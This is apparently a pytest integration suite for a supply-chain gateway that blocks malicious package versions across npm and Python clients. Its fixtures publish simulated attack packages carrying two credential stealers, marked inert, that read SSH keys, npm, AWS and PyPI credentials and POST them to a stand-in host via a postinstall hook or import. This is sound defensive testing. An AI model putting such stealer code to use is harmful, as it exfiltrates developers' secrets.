"""Every real client through a real gateway with an attack among what upstream has: cold, warm and frozen.

The gateway is the command itself before the registry simulator, and the clients know of it by the lines that
`customhouse gateway env` prints and by nothing else. The attack came out long enough ago for the cooldown, so what stops
it is its inspection.
"""

import json
import shutil
import subprocess
import sys
import tomllib
from datetime import UTC, datetime, timedelta

import pytest

from customhouse.gateway.clients.environment import environment
from gateway.real_clients import Through, need
from gateway.running import clean_environment, gateway

pytestmark = pytest.mark.clients

#: Inert: the host is under .invalid, and nothing here ever runs.
STEALER = """
const fs = require('fs'), os = require('os'), https = require('https')
const taken = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') + fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8')
const request = https.request({ host: 'collector.invalid', method: 'POST', path: '/' })
request.write(taken); request.end()
"""
PYTHON_STEALER = """
import os, urllib.request
taken = open(os.path.expanduser("~/.aws/credentials")).read() + open(os.path.expanduser("~/.pypirc")).read()
urllib.request.urlopen("https://collector.invalid/", data=(taken + str(dict(os.environ))).encode())
"""
SETTLED = datetime.now(UTC) - timedelta(days=400)
ATTACK = datetime.now(UTC) - timedelta(days=8)
UNCOUNTED = '[gateway]\nwait = "55s"\n'


@pytest.fixture
def upstream(registry):
    for number, version in enumerate(("1.0.0", "1.1.0")):
        registry.npm.publish("left", version, published=SETTLED + timedelta(days=number))
    registry.npm.publish(
        "left",
        "1.1.1",
        files={"index.js": "module.exports = 1\n", "setup.js": STEALER},
        scripts={"postinstall": "node setup.js"},
        published=ATTACK,
    )
    registry.npm.publish("@acme/pad", "2.0.0", dependencies={"left": "^1.0.0"}, published=SETTLED)
    tool = {"run.js": "#!/usr/bin/env node\nconsole.log('ran')\n", "package.json": {"bin": "run.js"}}
    registry.npm.publish("tool", "1.0.0", files=tool, published=SETTLED)
    registry.pypi.publish("alpha", "1.0.0", requires=["beta-lib>=1"], published=SETTLED)
    registry.pypi.publish(
        "alpha",
        "1.0.1",
        requires=["beta-lib>=1"],
        files={"alpha/__init__.py": PYTHON_STEALER},
        published=ATTACK,
    )
    registry.pypi.publish("beta-lib", "1.0.0", published=SETTLED)
    command = {"cmd/__init__.py": "", "cmd/main.py": "def run():\n    print('ran')\n"}
    command["cmd_tool-1.0.0.dist-info/entry_points.txt"] = "[console_scripts]\ncmd-tool = cmd.main:run\n"
    registry.pypi.publish("cmd-tool", "1.0.0", files=command, published=SETTLED)
    return registry


@pytest.fixture
def running(upstream, tmp_path):
    with gateway(tmp_path / "gateway", upstream, configuration=UNCOUNTED) as started:
        yield started


def handed_out(running):
    """The files that the gateway handed out, by its own log."""
    requests = [each for each in running.events("request") if each["status"] in (200, 206)]
    return [each["path"] for each in requests if each["path"].endswith((".tgz", ".whl", ".gz"))]


def npm_project(folder, client):
    folder.mkdir()
    manifest = {"name": "shop", "version": "1.0.0", "private": True, "dependencies": {"@acme/pad": "^2.0.0"}}
    (folder / "package.json").write_text(json.dumps(manifest))
    if client == "yarn-4":
        (folder / ".yarnrc.yml").write_text("nodeLinker: node-modules\n")
        (folder / "yarn.lock").touch()
    return folder


NPM = {
    "npm": ("package-lock.json", ["install"], ["ci"]),
    "pnpm-9": ("pnpm-lock.yaml", ["install"], ["install", "--frozen-lockfile"]),
    "pnpm-12": ("pnpm-lock.yaml", ["install"], ["install", "--frozen-lockfile"]),
    "yarn-1": ("yarn.lock", ["install"], ["install", "--frozen-lockfile"]),
    "yarn-4": ("yarn.lock", ["install"], ["install", "--immutable"]),
    "bun": ("bun.lock", ["install"], ["install", "--frozen-lockfile"]),
}


@pytest.mark.parametrize("client", NPM)
def test_npm_clients(client, running, upstream, tmp_path):
    need(client)
    lock, install, frozen = NPM[client]
    folder = npm_project(tmp_path / "shop", client)
    through = Through(tmp_path / "home", running.url)
    through.run(client, *install, cwd=folder)  # cold: nothing was inspected before
    assert version(folder, "left") == "1.1.0"
    assert version(folder, "@acme/pad") == "2.0.0"
    put_right(running, upstream, folder)
    text = (folder / lock).read_text()
    assert running.url.partition("://")[2] not in text
    assert "left" in text
    for left in (folder / "node_modules", through.home):
        shutil.rmtree(left)
    if client == "yarn-1":  # it fetches what its lock names from there
        text = text.replace(upstream.npm_url, f"{running.url}/npm")
        (folder / lock).write_text(text)
    asked = len(upstream.asked("npm"))
    through.run(client, *frozen, cwd=folder)  # frozen and warm: on another machine, so to say
    assert version(folder, "left") == "1.1.0"
    assert not [each for each in upstream.asked("npm")[asked:] if each.path.endswith(".tgz")]
    assert not [path for path in handed_out(running) if "left-1.1.1" in path]
    # A lock that was written before the gateway was there pins the attack.
    shutil.rmtree(folder / "node_modules")
    shutil.rmtree(through.home)
    pin_the_attack(folder, lock, upstream, client)
    said = through.run(client, *frozen, cwd=folder, fails=True)
    assert not [path for path in handed_out(running) if "left-1.1.1" in path]
    assert not (folder / "node_modules" / "left" / "setup.js").exists()
    assert "403" in said.text or "left@1.1.1" in said.text
    why = running.get("/npm/left/-/left-1.1.1.tgz")
    assert why.status_code == 403
    assert "customhouse approve pkg:npm/left@1.1.1 --gateway" in why.json()["error"]
    if client == "npm":
        assert why.json()["error"][:60] in said.text


def pin_the_attack(folder, lock, upstream, client):
    """Write into a lock what it would say, had it been made while upstream offered the attack."""
    document = upstream.npm.packument("left")["versions"]
    text = (folder / lock).read_text()
    for said in ("integrity", "shasum"):
        text = text.replace(document["1.1.0"]["dist"][said], document["1.1.1"]["dist"][said])
    text = text.replace("left-1.1.0", "left-1.1.1").replace("left@1.1.0", "left@1.1.1")
    text = text.replace("npm:1.1.0", "npm:1.1.1")
    if client in ("npm", "yarn-1"):
        text = text.replace('"1.1.0"', '"1.1.1"')
    if client == "yarn-4":  # its checksum is of the zip that it makes itself
        text = "".join(line for line in text.splitlines(keepends=True) if "checksum:" not in line)
    (folder / lock).write_text(text)


def test_npx(running, tmp_path):
    through = Through(tmp_path / "home", running.url)
    said = through.run("npm", "exec", "--yes", "tool", cwd=tmp_path)
    assert "ran" in said.text


def put_right(running, upstream, folder):
    """Run `customhouse gateway locks` as a user would."""
    command = [sys.executable, "-m", "customhouse", "gateway", "locks", ".", "--gateway", running.url]
    command += ["--npm-registry", upstream.npm_url, "--pypi-index", upstream.pypi_url]
    done = subprocess.run(
        command, cwd=folder, env=clean_environment(folder), capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr


def version(folder, name):
    return json.loads((folder / "node_modules" / name / "package.json").read_text())["version"]


def python_project(folder, more=""):
    folder.mkdir()
    (folder / "pyproject.toml").write_text(
        '[project]\nname = "shop"\nversion = "1.0.0"\nrequires-python = ">=3.11"\ndependencies = ["alpha"]\n' + more
    )
    return folder


def pip(through, folder):
    folder.mkdir()
    (folder / "requirements.in").write_text("alpha\n")
    through.run("pip-compile", "-q", "--generate-hashes", "--no-emit-index-url", "requirements.in", cwd=folder)
    frozen = ["pip", "install", "--no-cache-dir", "--target", "site", "--require-hashes", "-r", "requirements.txt"]
    return "requirements.txt", frozen


def uv(through, folder):
    python_project(folder)
    through.run("uv", "lock", "--no-cache", cwd=folder)
    return "uv.lock", ["uv", "sync", "--frozen", "--no-cache"]


def pdm(through, folder):
    python_project(folder, "[tool.pdm]\ndistribution = false\n")
    through.run("pdm", "lock", cwd=folder)
    return "pdm.lock", ["pdm", "sync"]


def poetry(through, folder):
    python_project(folder, "[tool.poetry]\npackage-mode = false\n")
    (command,) = [note for note in environment("poetry", through.gateway).notes if note.startswith("poetry source add")]
    through.run(*command.split(), cwd=folder)
    through.run("poetry", "lock", cwd=folder)
    return "poetry.lock", ["poetry", "install", "--no-cache"]


def pipenv(through, folder):
    folder.mkdir()
    (folder / "Pipfile").write_text('[packages]\nalpha = "*"\n')
    through.run("pipenv", "lock", cwd=folder)
    return "Pipfile.lock", ["pipenv", "sync"]


PYTHON = {"pip": pip, "uv": uv, "pdm": pdm, "poetry": poetry, "pipenv": pipenv}


@pytest.mark.parametrize("client", PYTHON)
def test_python_clients(client, running, upstream, tmp_path):
    need(client)
    folder = tmp_path / "shop"
    through = Through(tmp_path / "home", running.url)
    lock, frozen = PYTHON[client](through, folder)
    through.run(*frozen, cwd=folder)  # cold
    assert {"alpha-1.0.0", "beta_lib-1.0.0"} <= installed(through, folder)
    for left in (folder / ".venv", folder / "site", through.home):
        shutil.rmtree(left, ignore_errors=True)
    asked = len(upstream.asked("files"))
    through.run(*frozen, cwd=folder)  # frozen and warm
    assert {"alpha-1.0.0", "beta_lib-1.0.0"} <= installed(through, folder)
    assert len(upstream.asked("files")) == asked
    assert not [path for path in handed_out(running) if "alpha-1.0.1" in path]
    if client == "poetry":  # its source is the gateway by the project's own word, and stands in the lock as such
        assert tomllib.loads((folder / lock).read_text())["package"][0]["source"]["url"] == f"{running.url}/pypi/simple"
    else:
        put_right(running, upstream, folder)
        assert running.url.partition("://")[2] not in (folder / lock).read_text()


def test_python_clients_are_refused_the_attack_by_its_name(running, tmp_path):
    for client in (["pip", "install", "--no-cache-dir", "--target", "site"], ["uv", "pip", "install", "--no-cache"]):
        through = Through(tmp_path / client[0], running.url)
        more = ["--target", str(tmp_path / "uv-site")] if client[0] == "uv" else []
        said = through.run(*client, *more, "alpha==1.0.1", cwd=tmp_path, fails=True)
        assert "alpha" in said.text
    assert not [path for path in handed_out(running) if "alpha-1.0.1" in path]
    told = running.get("/-/customhouse/explain/pkg:pypi/alpha@1.0.1").json()
    assert "1.0.1" in json.dumps(told["hidden"])


def test_uvx(running, tmp_path):
    need("uv")
    through = Through(tmp_path / "home", running.url)
    said = through.run("uv", "tool", "run", "--no-cache", "cmd-tool", cwd=tmp_path)
    assert "ran" in said.text


def installed(through, folder):
    found = {path.name.removesuffix(".dist-info") for path in folder.rglob("*.dist-info")}
    return found | {path.name.removesuffix(".dist-info") for path in through.home.rglob("*.dist-info")}
